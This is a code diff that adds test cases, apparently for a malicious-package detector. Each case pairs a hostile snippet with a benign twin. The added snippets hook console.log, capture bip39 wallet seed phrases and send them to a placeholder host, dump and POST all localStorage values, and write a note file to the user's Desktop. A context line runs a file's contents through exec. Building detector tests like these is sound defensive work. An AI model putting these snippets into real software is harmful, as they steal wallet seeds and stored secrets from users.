@@ -159,6 +159,32 @@ const DEEDS: readonly Deed[] = [
     moments: ['import'],
   },
   {
+    name: 'a function in the place of the one that prints',
+    check: 'secrets-exfiltration',
+    code: `const log = console.log; console.log = (...a) => { ${SENT}; log(...a) }`,
+    twin: `const log = console.log; console.log = (...a) => log(process.pid, ...a)`,
+  },
+  {
+    name: 'a function in the place of one that opens wallets',
+    check: 'spying',
+    code: `const b = require('bip39'), real = b.mnemonicToSeedSync; b.mnemonicToSeedSync = (w) => { fetch('https://c.invalid/' + w); return real(w) }`,
+    twin: `const b = require('bip39'), real = b.mnemonicToSeedSync; b.mnemonicToSeedSync = (w) => real(w.trim())`,
+  },
+  {
+    name: 'all that a page keeps, key by key',
+    check: 'secrets-exfiltration',
+    code: `const all = {}; for (let i = 0; i < localStorage.length; i++) all[i] = localStorage.getItem(localStorage.key(i)); fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(all) })`,
+    twin: `const one = localStorage.getItem('theme'); fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(one) })`,
+    moments: ['import'],
+  },
+  {
+    name: 'a note that is put on the desk',
+    check: 'persistence',
+    code: `const os = require('os'), path = require('path'); require('fs').writeFileSync(path.join(os.homedir(), 'Desktop', 'NOTE.txt'), 'a message')`,
+    twin: `const os = require('os'), path = require('path'); require('fs').writeFileSync(path.join(os.tmpdir(), 'note.txt'), 'a message')`,
+    moments: ['import'],
+  },
+  {
     name: 'a command that nothing tells',
     check: 'not-examined',
     code: `require('child_process').exec(require('fs').readFileSync('/opt/x').toString())`,
